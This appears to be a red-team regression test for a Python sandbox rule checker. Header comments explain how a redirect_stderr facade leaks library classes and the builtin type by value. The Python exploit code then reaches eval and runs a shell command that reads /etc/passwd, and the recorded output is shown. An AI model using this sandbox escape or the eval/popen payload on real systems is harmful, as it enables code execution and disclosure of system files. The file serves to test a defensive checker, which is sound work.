# expect: reject class_value
# line: 43
# verified: reaches its goal under plain python3 (3.11) in a temp dir
# why: fifteenth red team (round 15a), family S: a module attribute taken for a fixed library object although a facade makes it the program's own (sys.stdout/sys.stderr under contextlib.redirect_stdout/redirect_stderr): == and `in` with a class accept only classes the rules' tables name (the red team's program, ok_02)
# Mechanism: rule class_value lets typing.get_args(...)'s tuple stand on the right of 'in' when the 
# left operand is 'a class the program names' (named_class), and named_class accepts any attribute 
# of a module that class_like accepts: sys.stderr. Under contextlib.redirect_stderr(g), sys.stderr 
# is the program's Grab instance, so the tuple containment runs Counter == g, type.__eq__ answers 
# NotImplemented and the reflected Grab.__eq__(collections.Counter) receives the library class by 
# value. Counter.copy(P) then is P.__class__(P): the builtin type. No dunder name is given to a 
# builtin at run time.
# Goal reached: collections.Counter and the builtin type by value, then eval (11b end gadget): reads /etc/passwd 
#   (through a shell: id-class process too).
# Checker: build/safe-exec-check --rules rules FILE exits 0 (accepted) at HEAD 7bb35ca
# Output seen under python3 (3.11), run in a fresh temp dir:
#   by value: <class 'collections.Counter'>
#   by value: <class 'type'>
#   by value: <built-in function eval>
#   root:x:0:0:root:/root:/bin/bash
#   daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin
import collections
import contextlib
import copy
import sys
import typing

class P:
    pass

class Grab:
    def __eq__(self, other):
        raise LookupError(other)

    def write(self, s):
        return len(s)

    def flush(self):
        return None

g = Grab()
try:
    with contextlib.redirect_stderr(g):
        sys.stderr in typing.get_args(list[collections.Counter])
except Exception as e:
    K = e.args[0]
print("by value:", K)
T = K.copy(P)
print("by value:", T)
ev = copy.deepcopy(T(typing.List[int])(int, ("eval",), name="__builtins__"))
print("by value:", ev)
print(ev("__import__('os').popen('cat /etc/passwd | head -2').read()"), end="")
